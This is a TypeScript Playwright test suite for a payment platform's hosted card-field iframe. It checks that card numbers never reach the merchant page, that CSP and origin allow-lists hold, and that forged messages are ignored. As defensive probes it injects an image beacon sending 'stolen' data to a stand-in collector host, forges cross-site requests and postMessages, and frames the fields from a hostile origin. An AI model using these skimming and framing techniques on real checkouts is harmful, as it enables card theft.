import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { createServer } from 'node:https';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { launchChromium, skipWithoutChromium } from '../../test/browser.ts';
import { acquirerTestCards, testCvvs } from '../../test/fixtures/cards.ts';
import { outputDir } from '../../test/global-setup.ts';
import { backends, futureYear, startTestPlatform, type TestPlatform } from '../../test/harness.ts';
import { openLocalCa } from '../keys/local-ca.ts';
import { hostedFieldsCsp } from './hosted-fields-csp.ts';
import { PROTOCOL } from './hosted-messages.ts';

const screenshots = path.join(outputDir, 'screenshots');
const approve = acquirerTestCards.approve;
const decline = acquirerTestCards.insufficientFunds;
const expiry = `12${String(futureYear % 100).padStart(2, '0')}`;
const FIELDS_FRAME = 'iframe[title="Secure card payment fields"]';

/** The card number as digits and as the fields format it: neither may appear on the merchant's side. */
const forms = (pan: string) => [pan, pan.replace(/(\d{4})(?=\d)/g, '$1 ')];
const assertNoCard = (text: string, pan: string, where: string) => {
  for (const form of forms(pan)) assert.ok(!text.includes(form), `${where} holds the card number`);
};

interface Recorded {
  url: string;
  frame: 'top' | 'fields' | 'other';
  method: string;
  body: string;
  response: string;
}

/** Every request of a page with its body and (textual) response body, and which frame made it. */
function recordNetwork(page: Page, vaultOrigin: string): Recorded[] {
  const log: Recorded[] = [];
  page.on('requestfinished', async (request) => {
    const frame = request.frame();
    const entry: Recorded = {
      url: request.url(),
      frame:
        frame === page.mainFrame() ? 'top' : new URL(frame.url()).origin === vaultOrigin ? 'fields' : 'other',
      method: request.method(),
      body: request.postData() ?? '',
      response: '',
    };
    log.push(entry);
    const response = await request.response();
    entry.response = response ? await response.text().catch(() => '') : '';
  });
  return log;
}

async function fieldsFrame(page: Page): Promise<Frame> {
  const handle = await page.waitForSelector(FIELDS_FRAME);
  const frame = await handle.contentFrame();
  assert.ok(frame, 'the card fields iframe has a frame');
  await frame.waitForSelector('#number');
  return frame;
}

async function typeCard(
  frame: Frame,
  card: { number: string; expiry?: string; cvc?: string; name?: string },
) {
  await frame.locator('#number').pressSequentially(card.number);
  if (card.expiry !== undefined) await frame.locator('#expiry').pressSequentially(card.expiry);
  if (card.cvc !== undefined) await frame.locator('#cvc').pressSequentially(card.cvc);
  if (card.name !== undefined) await frame.locator('#name').fill(card.name);
}

/**
 * What the merchant page's JavaScript can see: strings reachable from window, storage, cookies, the
 * resources it loaded, its inputs and text, and whether it can read into the iframe. A string, because
 * tsx's helpers do not exist in the page.
 */
const pageStateScript = `(() => {
  const seen = new Set();
  const strings = [];
  const walk = (value, depth) => {
    if (depth > 4 || value === null || value === undefined || seen.has(value)) return;
    if (typeof value === 'string') strings.push(value);
    if (typeof value !== 'object' && typeof value !== 'function') return;
    seen.add(value);
    for (const key of Object.keys(value)) {
      try { walk(value[key], depth + 1); } catch {}
    }
  };
  walk(window, 0);
  let framed = 'unreadable';
  try {
    framed = String(document.querySelector('iframe').contentDocument.body.innerHTML);
  } catch {}
  return {
    globals: strings.join('\\n'),
    storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie,
    resources: performance.getEntries().map((e) => e.name).join('\\n'),
    inputs: [...document.querySelectorAll('input')].map((i) => i.value).join('\\n'),
    framed,
    text: document.body.innerText,
  };
})()`;

describe('hosted card fields and the demo checkout, in Chromium', { skip: skipWithoutChromium }, () => {
  let platform: TestPlatform;
  let demoUrl: string;
  let context: BrowserContext;
  let closeBrowser: () => Promise<void>;
  const consoleLines: string[] = [];
  /** Another origin, not on the publishable key's allow-list: it frames the fields or opens the shop. */
  let evilOrigin: string;
  let closeEvil: () => void;
  const demoPublishableKey = async () => {
    const response = await platform.request('GET', demoUrl, { key: null });
    const key = /name="cardhold-publishable-key" content="(pk_test_[0-9A-Za-z]+)"/.exec(response.text)?.[1];
    assert.ok(key, 'the demo page names its publishable key');
    return key;
  };

  before(async () => {
    await mkdir(screenshots, { recursive: true });
    platform = await startTestPlatform(backends().at(-1) ?? 'embedded', 'web-checkout', {
      roles: ['vault', 'api', 'acquirer'],
      demoCheckout: true,
    });
    demoUrl = platform.platform.demoCheckoutUrl ?? '';
    assert.match(demoUrl, /^https:\/\//);
    const issued = await (await openLocalCa(platform.dataDir)).certificate('api');
    const evil = createServer({ key: issued.keyPem, cert: issued.certPem }, (req, res) => {
      const src = new URL(req.url ?? '/', 'https://x').searchParams.get('src') ?? 'about:blank';
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(
        `<!doctype html><title>elsewhere</title><iframe src="${src.replace(/"/g, '&quot;')}"></iframe>`,
      );
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const address = evil.address();
    evilOrigin = `https://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    closeEvil = () => evil.close();
    const browser = await launchChromium();
    closeBrowser = () => browser.close();
    // The platform's certificates come from its own local CA, which this fresh browser does not trust;
    // ignoring certificate errors in the test context is the only concession (TLS is still used).
    context = await browser.newContext({ ignoreHTTPSErrors: true });
    context.on('console', (message) => consoleLines.push(`${message.type()}: ${message.text()}`));
  });

  after(async () => {
    // No card number in any browser console line, from any page or frame of the whole run.
    for (const line of consoleLines) assertNoCard(line, approve, 'the console');
    await closeBrowser?.();
    closeEvil?.();
    await platform?.close();
  });

  test('a test card typed into the iframe pays; the merchant page never holds the card number', async () => {
    const page = await context.newPage();
    const vaultOrigin = new URL(platform.vaultUrl).origin;
    const network = recordNetwork(page, vaultOrigin);
    await page.goto(demoUrl);
    const frame = await fieldsFrame(page);
    await page.locator('#pay:not([disabled])').waitFor();
    await typeCard(frame, { number: approve, expiry, cvc: testCvvs.three, name: 'Ada Lovelace' });
    assert.equal(await frame.locator('#number').inputValue(), '4242 4242 4242 4242', 'grouped by four');
    assert.equal(await frame.locator('#expiry').inputValue(), `12 / ${expiry.slice(2)}`);
    assert.equal(await frame.locator('#brand').textContent(), 'Visa');
    await page.locator('#pay').click();
    await page.locator('#result[data-outcome="succeeded"]').waitFor({ timeout: 20_000 });
    assert.match((await page.locator('#result').textContent()) ?? '', /Payment succeeded: visa ending 4242/);
    await page.screenshot({ path: path.join(screenshots, 'checkout-succeeded.png'), fullPage: true });

    // The payment, as the api has it.
    const paymentId = (await page.locator('#result').getAttribute('data-payment-intent')) ?? '';
    const payment = await platform.request<{ status: string; amount: number }>(
      'GET',
      `${platform.apiUrl}/v1/payment_intents/${paymentId}`,
    );
    assert.equal(payment.status, 200);
    assert.equal(payment.json.status, 'succeeded');
    assert.equal(payment.json.amount, 2500);

    // The merchant page's own requests: the card number is in none, nor in any answer it got.
    await page.waitForLoadState('networkidle');
    const top = network.filter((r) => r.frame === 'top');
    assert.ok(
      top.some((r) => r.url.endsWith('/pay') && r.method === 'POST'),
      'the page paid through /pay',
    );
    for (const r of top) assertNoCard(`${r.url}\n${r.body}\n${r.response}`, approve, `top-frame ${r.url}`);
    // …while the iframe did send it, to the vault's own origin only: the check above is not vacuous.
    const tokenize = network.filter((r) => r.frame === 'fields' && r.url === `${vaultOrigin}/v1/tokens`);
    assert.equal(tokenize.length, 1);
    assert.ok(tokenize[0]?.body.includes(approve), 'the iframe tokenized the card at the vault');
    assert.ok(
      network.every((r) => r.frame !== 'other'),
      'no third-party frame made requests',
    );
    for (const r of network) {
      const origin = new URL(r.url).origin;
      assert.ok(
        origin === vaultOrigin || origin === new URL(demoUrl).origin,
        `no third-party request: ${r.url}`,
      );
    }

    // The merchant page's DOM and JavaScript-visible state.
    assertNoCard(await page.content(), approve, "the merchant page's HTML");
    const state = (await page.evaluate(pageStateScript)) as Record<string, string>;
    for (const [where, text] of Object.entries(state))
      assertNoCard(text, approve, `the merchant page's ${where}`);
    assert.equal(state.framed, 'unreadable', "the merchant's script cannot read into the iframe");

    // The CVV slot the iframe made was destroyed once the authorization answered.
    const pay = top.find((r) => r.url.endsWith('/pay'));
    const slotId = (JSON.parse(pay?.body ?? '{}') as { cvv_slot?: string }).cvv_slot ?? '';
    assert.match(slotId, /^cvv_/);
    const slot = await platform.request<{ code: string }>(
      'GET',
      `${platform.vaultUrl}/v1/cvv-slots/${slotId}`,
    );
    assert.equal(slot.status, 404);
    assert.equal(slot.json.code, 'cvv_slot_not_found');

    // The iframe's own HTML carries no card number either (values live in the inputs, not the markup).
    assertNoCard(await frame.content(), approve, "the iframe's HTML");
    await page.close();
  });

  test("a test acquirer's decline card declines, with the decline shown to the buyer", async () => {
    const page = await context.newPage();
    await page.goto(demoUrl);
    const frame = await fieldsFrame(page);
    await page.locator('#pay:not([disabled])').waitFor();
    await typeCard(frame, { number: decline, expiry, cvc: testCvvs.three, name: 'Ada Lovelace' });
    await page.locator('#pay').click();
    await page.locator('#result[data-outcome="failed"]').waitFor({ timeout: 20_000 });
    assert.match((await page.locator('#result').textContent()) ?? '', /declined|insufficient/i);
    assertNoCard(await page.content(), decline, "the merchant page's HTML");
    await page.screenshot({ path: path.join(screenshots, 'checkout-declined.png'), fullPage: true });
    await page.close();
  });
  test('the demo shop pays only for its own page: a cross-site or form-encoded request is refused', async () => {
    const payUrl = new URL('/pay', demoUrl).toString();
    const body = JSON.stringify({ token: `tok_${'A'.repeat(22)}` });
    const refused: Record<string, string>[] = [
      { 'content-type': 'text/plain', origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
      { 'content-type': 'application/json', origin: 'https://evil.example' },
      { 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' },
      { 'content-type': 'application/x-www-form-urlencoded' },
    ];
    for (const headers of refused) {
      const r = await platform.request<{ status: string }>('POST', payUrl, {
        key: null,
        rawBody: body,
        headers,
      });
      assert.equal(r.status, 403, JSON.stringify(headers));
    }
    // Its own page's request passes the check (and fails later only because the token does not exist).
    const own = await platform.request<{ status: string }>('POST', payUrl, {
      key: null,
      rawBody: body,
      headers: {
        'content-type': 'application/json',
        origin: new URL(demoUrl).origin,
        'sec-fetch-site': 'same-origin',
      },
    });
    assert.equal(own.status, 200, own.text);
    assert.equal(own.json.status, 'failed');
  });

  test('the fields render only for an allowed origin, with frame-ancestors limited to it', async () => {
    const key = await demoPublishableKey();
    const demoOrigin = new URL(demoUrl).origin;
    const url = (origin: string) =>
      `${platform.vaultUrl}/hosted/card-fields?key=${key}&origin=${encodeURIComponent(origin)}`;
    const allowed = await platform.request('GET', url(demoOrigin), { key: null });
    assert.equal(allowed.status, 200);
    const csp = allowed.headers.get('content-security-policy') ?? '';
    assert.equal(csp, hostedFieldsCsp(demoOrigin));
    assert.match(csp, new RegExp(`frame-ancestors ${demoOrigin.replace(/[.]/g, '\\.')};`));
    assert.match(csp, /script-src 'self';/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
    assert.match(allowed.text, /<script src="\/hosted\/card-fields\.js" integrity="sha384-[^"]+" defer>/);
    assert.doesNotMatch(allowed.text, /<script>|<style>|style="/, 'no inline script or style');

    const refused = await platform.request<{ code: string }>('GET', url(evilOrigin), { key: null });
    assert.equal(refused.status, 403);
    assert.equal(refused.json.code, 'forbidden');
    assert.match(refused.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/);
    const topLevel = await platform.request('GET', url(demoOrigin), {
      key: null,
      headers: { 'sec-fetch-dest': 'document' },
    });
    assert.equal(topLevel.status, 403, 'opened as a page of its own, it refuses');
    const secretKey = await platform.request('GET', url(demoOrigin).replace(key, platform.secretKey), {
      key: null,
    });
    assert.equal(secretKey.status, 400, 'a secret key never goes into a URL the browser sees');
    const sdk = await platform.request('GET', `${platform.vaultUrl}/sdk/cardhold.js`, { key: null });
    assert.equal(sdk.status, 200);
    assert.equal(sdk.headers.get('access-control-allow-origin'), '*', 'CORS, for integrity= from merchants');

    // A real attempt: pages on another origin frame the fields, one honestly, one claiming the shop's origin.
    const page = await context.newPage();
    const blocked: string[] = [];
    page.on('console', (m) => blocked.push(m.text()));
    // Waits for the refusal itself rather than a fixed time: a slow browser reports it late.
    const refusal = page.waitForEvent('console', {
      predicate: (m) => /frame-ancestors/.test(m.text()),
      timeout: 15_000,
    });
    await page.goto(`${evilOrigin}/frame?src=${encodeURIComponent(url(demoOrigin))}`);
    await refusal.catch(() => undefined);
    const lying = page.frames().find((f) => f !== page.mainFrame());
    assert.ok(lying, 'the frame element exists');
    assert.equal(await lying.locator('#number').count(), 0, 'the browser refused to render the fields');
    assert.ok(
      blocked.some((line) => /frame-ancestors/.test(line)),
      `Chromium reports the frame-ancestors refusal: ${blocked.join(' | ')}`,
    );
    await page.goto(`${evilOrigin}/frame?src=${encodeURIComponent(url(evilOrigin))}`);
    const honest = page.frames().find((f) => f !== page.mainFrame());
    assert.equal(await honest?.locator('#number').count(), 0, 'the vault refused to serve the fields');
    await page.close();
  });

  test('what the CSP of the fields page blocks is reported to the vault and counted (PCI DSS 11.6.1)', async () => {
    const metrics = platform.platform.services.metrics.vault;
    assert.ok(metrics);
    const imgViolations = async () =>
      Number(
        /^cardhold_csp_violations_total\{directive="img-src",role="vault"\} (\d+)/m.exec(
          await metrics.metrics(),
        )?.[1],
      );
    const before = await imgViolations();
    assert.equal(Number.isNaN(before), false, 'the series exists before any violation');
    const page = await context.newPage();
    const fieldsPage = page.waitForResponse((r) => r.url().includes('/hosted/card-fields?'));
    await page.goto(demoUrl);
    const frame = await fieldsFrame(page);
    const response = await fieldsPage;
    assert.equal(response.headers()['reporting-endpoints'], 'cardhold-csp="/hosted/csp-reports"');
    // An injected image that would carry data off to another origin: the browser blocks and reports it.
    // (Chromium's console quotes the blocked URL whole, so no card number goes in it here; what the
    // vault keeps of a report, origin only, is tested in csp-reports.test.ts.)
    await frame.evaluate(`new Image().src = 'https://collector.example/c.gif?data=stolen'`);
    let after = before;
    for (const until = Date.now() + 20_000; after === before && Date.now() < until; ) {
      await page.waitForTimeout(100);
      after = await imgViolations();
    }
    assert.ok(after > before, 'the violation reached the vault');
    await page.close();

    // The report route as any client sees it: public, the two report media types, nothing else.
    const reportUrl = `${platform.vaultUrl}/hosted/csp-reports`;
    const post = (contentType: string, rawBody: string) =>
      platform.request<{ code?: string; field?: string }>('POST', reportUrl, {
        key: null,
        rawBody,
        headers: { 'content-type': contentType },
      });
    const legacy = JSON.stringify({
      'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://a.example/x' },
    });
    const batch = JSON.stringify([
      { type: 'csp-violation', body: { effectiveDirective: 'img-src', blockedURL: 'inline' } },
    ]);
    assert.equal((await post('application/csp-report', legacy)).status, 204);
    assert.equal((await post('application/reports+json', batch)).status, 204);
    assert.equal(await imgViolations(), after + 2);
    const notReport = await post('application/reports+json', '{"a":1}');
    assert.deepEqual(
      [notReport.status, notReport.json.code, notReport.json.field],
      [400, 'request_invalid', 'body'],
    );
    assert.equal((await post('application/reports+json', '[{')).json.code, 'body_not_json');
    assert.equal((await post('text/plain', legacy)).json.code, 'request_invalid', 'text is not a report');
    assert.equal((await post('application/xml', '<r/>')).status, 415);
    assert.equal((await post('application/csp-report', `[${'1,'.repeat(40_000)}1]`)).status, 413);
  });

  test('the iframe ignores messages from a window that is not its allow-listed parent', async () => {
    const evil = await context.newPage();
    await evil.goto(`${evilOrigin}/frame`);
    const [shop] = await Promise.all([
      context.waitForEvent('page'),
      evil.evaluate(`window.shop = window.open(${JSON.stringify(demoUrl)}, 'shop')`),
    ]);
    const warnings: string[] = [];
    shop.on('console', (m) => warnings.push(m.text()));
    const tokenizations: string[] = [];
    shop.on('request', (r) => {
      if (r.url().endsWith('/v1/tokens')) tokenizations.push(r.url());
    });
    const frame = await fieldsFrame(shop);
    await shop.locator('#pay:not([disabled])').waitFor();
    await typeCard(frame, { number: approve, expiry, cvc: testCvvs.three, name: 'Ada Lovelace' });
    // The opener holds a reference to the shop's window and so to its frames; it asks the fields to submit.
    const forged = { protocol: PROTOCOL, type: 'submit', requestId: 'forged' };
    const style = { protocol: PROTOCOL, type: 'configure', style: { color: 'red' } };
    await evil.evaluate(
      `window.shop.frames[0].postMessage(${JSON.stringify(forged)}, '*');
       window.shop.frames[0].postMessage(${JSON.stringify(style)}, '*')`,
    );
    // Both messages are reported as ignored (waited for, up to 15 s), then a moment more for a forged
    // submit that would tokenize.
    const ignored = () =>
      warnings.filter((w) => w === `cardhold: ignored a message from ${evilOrigin}`).length;
    for (const until = Date.now() + 15_000; ignored() < 2 && Date.now() < until; )
      await shop.waitForTimeout(50);
    await shop.waitForTimeout(500);
    assert.deepEqual(tokenizations, [], 'a forged submit tokenized nothing');
    assert.equal(ignored(), 2, warnings.join(' | '));
    assert.notEqual(
      await frame.evaluate('getComputedStyle(document.documentElement).getPropertyValue("--ch-color")'),
      'red',
    );
    // The real parent still can: the fields were live all along.
    await shop.locator('#pay').click();
    await shop.locator('#result[data-outcome="succeeded"]').waitFor({ timeout: 20_000 });
    assert.equal(tokenizations.length, 1);
    await shop.close();
    await evil.close();
  });

  test('fields validate as the user types, with accessible errors (screenshots in test-output)', async () => {
    const page = await context.newPage();
    await page.goto(demoUrl);
    const frame = await fieldsFrame(page);
    await page.locator('#pay:not([disabled])').waitFor();
    const number = frame.getByLabel('Card number');
    const error = (field: string) => frame.locator(`#${field}-error`).textContent();
    const invalid = (field: string) => frame.locator(`#${field}`).getAttribute('aria-invalid');

    // A full-length number failing its check digit is flagged at once.
    await number.pressSequentially(`${approve.slice(0, -1)}${(Number(approve.slice(-1)) + 1) % 10}`);
    assert.equal(await error('number'), 'Your card number is invalid.');
    assert.equal(await invalid('number'), 'true');
    assert.equal(await number.getAttribute('aria-describedby'), 'number-error');
    await page.screenshot({ path: path.join(screenshots, 'fields-number-invalid.png') });

    // Brand detection and Amex grouping; the CVC allows four digits for Amex.
    await number.fill('');
    await number.pressSequentially('378282246310005');
    assert.equal(await number.inputValue(), '3782 822463 10005');
    assert.equal(await frame.locator('#brand').textContent(), 'American Express');
    assert.equal(await error('number'), '');
    assert.equal(await frame.locator('#cvc').getAttribute('maxlength'), '4');

    // Expiry: in the past, then not a month.
    const expiryField = frame.getByLabel('Expiry date (MM / YY)');
    await expiryField.pressSequentially('0120');
    assert.equal(await expiryField.inputValue(), '01 / 20');
    assert.equal(await error('expiry'), "Your card's expiry date is in the past.");
    await page.screenshot({ path: path.join(screenshots, 'fields-expiry-past.png') });
    await expiryField.fill('');
    await expiryField.pressSequentially('1330');
    assert.equal(await error('expiry'), 'Enter the expiry date as MM / YY.');
    await expiryField.fill('');
    await expiryField.pressSequentially(expiry);
    assert.equal(await error('expiry'), '');

    // Submitting with empty fields: each says what is missing, focus goes to the first, nothing is sent.
    await page.locator('#pay').click();
    await page.locator('#result[data-outcome="error"]').waitFor();
    assert.equal(await page.locator('#result').textContent(), 'Check the highlighted card details.');
    assert.equal(await error('cvc'), "Enter your card's security code.");
    assert.equal(await error('name'), 'Enter the name on your card.');
    assert.equal(await frame.evaluate('document.activeElement.id'), 'cvc');
    assert.equal(await frame.locator('#form-status').getAttribute('role'), 'status');
    await page.screenshot({ path: path.join(screenshots, 'fields-required.png') });

    // Keyboard: Tab walks number, expiry, CVC, name in order.
    await number.focus();
    const order: unknown[] = [];
    for (let i = 0; i < 3; i++) {
      await page.keyboard.press('Tab');
      order.push(await frame.evaluate('document.activeElement.id'));
    }
    assert.deepEqual(order, ['expiry', 'cvc', 'name']);
    await page.close();
  });
});
